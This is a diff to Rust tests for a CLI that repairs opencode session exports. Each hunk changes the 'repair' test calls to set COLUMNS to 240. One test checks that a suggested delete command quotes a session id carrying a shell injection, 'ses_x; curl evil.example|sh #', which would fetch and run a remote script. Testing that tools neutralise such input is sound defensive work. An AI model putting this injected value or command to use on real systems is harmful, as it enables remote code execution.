@@ -253,7 +253,13 @@ fn exports_get_a_repaired_copy_next_to_them() {
     ]});
     let text = serde_json::to_string_pretty(&export).unwrap();
     std::fs::write(&path, &text).unwrap();
-    let out = rewind().arg("repair").arg(&path).output().unwrap();
+    // Wide enough for the plan's lines to keep to one line.
+    let out = rewind()
+        .env("COLUMNS", "240")
+        .arg("repair")
+        .arg(&path)
+        .output()
+        .unwrap();
     assert_eq!(
         out.status.code(),
         Some(0),
@@ -289,7 +295,13 @@ fn a_suggested_command_quotes_the_ids_it_carries() {
          "parts": [{"id": "prt_2", "type": "step-start"}, {"id": "prt_3", "type": "tool", "tool": "bash", "callID": "c1", "state": {"status": "pending", "input": {}, "raw": ""}}]}
     ]});
     std::fs::write(&path, serde_json::to_string_pretty(&export).unwrap()).unwrap();
-    let out = rewind().arg("repair").arg(&path).output().unwrap();
+    // Wide enough for the plan's lines to keep to one line.
+    let out = rewind()
+        .env("COLUMNS", "240")
+        .arg("repair")
+        .arg(&path)
+        .output()
+        .unwrap();
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(
         stdout.contains("`opencode session delete 'ses_x; curl evil.example|sh #'`"),
@@ -334,7 +346,13 @@ fn a_killed_export_repair_leaves_no_copy_and_the_next_run_cleans_up() {
         !left.contains(&"session.repaired.json.partial-1".to_owned()),
         "{left:?}"
     );
-    let out = rewind().arg("repair").arg(&path).output().unwrap();
+    // Wide enough for the plan's lines to keep to one line.
+    let out = rewind()
+        .env("COLUMNS", "240")
+        .arg("repair")
+        .arg(&path)
+        .output()
+        .unwrap();
     assert_eq!(
         out.status.code(),
         Some(0),
@@ -535,7 +553,13 @@ fn an_export_loses_its_empty_text_part_in_the_copy() {
                    {"id": "prt_4", "type": "step-finish", "reason": "stop", "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}}]}
     ]});
     std::fs::write(&path, serde_json::to_string_pretty(&export).unwrap()).unwrap();
-    let out = rewind().arg("repair").arg(&path).output().unwrap();
+    // Wide enough for the plan's lines to keep to one line.
+    let out = rewind()
+        .env("COLUMNS", "240")
+        .arg("repair")
+        .arg(&path)
+        .output()
+        .unwrap();
     assert_eq!(
         out.status.code(),
         Some(0),
